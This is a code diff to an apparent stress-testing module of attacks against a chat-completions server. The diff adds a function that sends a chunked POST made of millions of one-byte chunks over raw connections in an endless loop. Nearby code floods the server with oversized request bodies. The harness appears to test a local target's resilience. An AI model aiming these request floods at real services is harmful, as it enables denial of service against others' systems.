@@ -1,5 +1,7 @@
 """A viewer's questions that cost far more than they weigh: forms, tools, texts, numbers of parts."""
 
+import asyncio
+import contextlib
 from typing import Any
 
 from attacks.target import Target, chat, forever, user
@@ -63,6 +65,24 @@ async def texts(target: Target) -> None:
     body = chat(user([{"type": "text", "text": "why " * 8000} for _ in range(240)]))
     async with target.client() as client:
         await forever(8, lambda _: client.post("/v1/chat/completions", content=body, headers=JSON))
+
+
+async def crumbs(target: Target) -> None:
+    """Bodies that come in chunks of one byte."""
+    head = (
+        "POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
+        f"Content-Type: application/json\r\nAuthorization: Bearer {target.token}\r\n\r\n"
+    ).encode()
+
+    async def act(_: int) -> None:
+        _reader, writer = await asyncio.wait_for(target.connect(), 10)
+        with contextlib.closing(writer):
+            writer.write(head)
+            for _ in range(2000):
+                writer.write(b"1\r\n \r\n" * 10_000)
+                await asyncio.wait_for(writer.drain(), 60)
+
+    await forever(8, act)
 
 
 async def messages(target: Target) -> None:
